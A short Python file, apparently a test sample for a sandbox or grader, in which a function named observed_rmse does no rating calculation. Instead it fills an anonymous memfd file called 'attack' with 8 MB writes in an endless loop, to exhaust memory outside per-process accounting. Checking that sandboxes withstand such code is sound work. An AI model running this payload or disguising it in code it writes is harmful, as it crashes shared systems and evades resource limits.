"""Writes into a file that lies in memory and counts for no process."""

import os

STATES = {"1.5": "crashed"}
SCORE = 5
SAYS = "PermissionError"


def observed_rmse(ratings, predictions):
    file = os.memfd_create("attack")
    while True:
        os.write(file, bytes(8 << 20))
